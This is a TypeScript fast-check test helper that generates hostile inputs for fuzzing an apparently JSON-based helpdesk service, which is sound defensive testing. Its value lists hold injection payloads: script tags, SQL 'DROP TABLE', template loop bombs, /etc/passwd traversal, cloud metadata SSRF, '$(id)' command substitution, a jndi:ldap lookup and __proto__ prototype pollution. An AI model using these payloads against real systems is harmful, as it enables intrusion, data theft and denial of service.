import fc from 'fast-check';
import { Raw } from './json.ts';

/** Values that have broken other software, as texts and as JSON. */
const texts = [
  '',
  ' ',
  '\u0000\u0001\u001f\u007f\u0085',
  '\ufffe\uffff',
  '\ufeff',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  'ﷺ'.repeat(50),
  '\u202eabc\u202d\u2066',
  'Z̸̡̢̛͖̲̹̘͔̫̞̎̈́̉͐͛̈́͝a̴̧̛l̷̡͚g̷',
  '<script>alert(1)</script>',
  '=HYPERLINK("https://example.org","open")',
  "'; DROP TABLE helpdesk; --",
  '{{ "x" | default: contact }}{% for i in (1..100000000) %}x{% endfor %}',
  '../../../../etc/passwd',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  '%s%n%x $(id) `id` %24%7Bjndi:ldap://example.org/x%7D',
  'NaN',
  'null',
  'undefined',
  '__proto__',
  'constructor',
  '1e400',
  '0x10',
  '-0',
  '2024-02-30T25:61:61Z',
  '9999999-99-99T99:99:99Z',
  `${'a'.repeat(5_000)}!`,
  `${'1'.repeat(40)}`,
  `${'\t'.repeat(20_000)}x`,
  `ada@${'a.'.repeat(5_000)}`,
  `+${'0 '.repeat(5_000)}`,
];

const raws = [
  '"\\ud800"',
  '"\\udfff\\ud800"',
  '"\\u0000"',
  '"\\x41"',
  '"unterminated',
  '9007199254740993',
  '-9007199254740993',
  '18446744073709551615',
  '63741936.00000000000001',
  '6.3741936e7',
  '1e400',
  '-1e400',
  '1e-400',
  `1${'0'.repeat(5_000)}`,
  `0.${'0'.repeat(5_000)}1`,
  '-0',
  '0',
  '-1',
  '1.5',
  '01',
  '+1',
  '.5',
  'NaN',
  'Infinity',
  'undefined',
  "'text'",
  '/* comment */ 1',
  '',
];

const others: readonly unknown[] = [
  null,
  true,
  false,
  [],
  {},
  [[]],
  [null],
  { id: 1 },
  { text: {} },
  { constructor: { prototype: {} } },
];

const own = ['{"__proto__":{"isAdmin":true}}', '{"constructor":{"prototype":{"x":1}}}', '{"toString":null}'];

/** A value of any type in place of the expected one. */
export const aHostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...texts) },
  { weight: 2, arbitrary: fc.constantFrom(...raws).map((text) => new Raw(text)) },
  { weight: 1, arbitrary: fc.constantFrom(...own).map((text) => new Raw(text)) },
  { weight: 3, arbitrary: fc.constantFrom(...others).map((value) => structuredClone(value)) },
);

/** Nested brackets, some of them far deeper than any recursion can follow. */
export const aDepth: fc.Arbitrary<Raw> = fc
  .record({
    depth: fc.constantFrom(50, 99, 100, 101, 1_000, 10_000, 200_000),
    brackets: fc.constantFrom(['[', ']'], ['{"a":', '}'], ['[{"":', '}]']),
    isClosed: aChance(0.8),
  })
  .map(({ depth, brackets: [open = '', close = ''], isClosed }) => {
    return new Raw(open.repeat(depth) + (isClosed ? `1${close.repeat(depth)}` : ''));
  });

/** A long text. A few are so long that no record can carry them. */
export const aFlood: fc.Arbitrary<string> = fc
  .record({
    text: fc.constantFrom('x', 'ä', '👩', '\n', '"', '\\', '\u0000', 'Hello! '),
    times: fc.oneof(
      { weight: 19, arbitrary: fc.integer({ min: 1_000, max: 50_000 }) },
      { weight: 1, arbitrary: fc.integer({ min: 100_000, max: 1_000_000 }) },
    ),
  })
  .map(({ text, times }) => text.repeat(times));

/** The id of a conversation, or something that cannot be one. */
export const anId: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 2, arbitrary: fc.integer({ min: 1, max: 2 ** 40 }) },
  { weight: 1, arbitrary: aHostileValue },
  { weight: 1, arbitrary: fc.integer({ min: 1, max: 2 ** 50 }).map(String) },
);

/** True in this share of cases. */
export function aChance(share: number): fc.Arbitrary<boolean> {
  return fc.integer({ min: 1, max: 100 }).map((percent) => percent <= 100 * share);
}
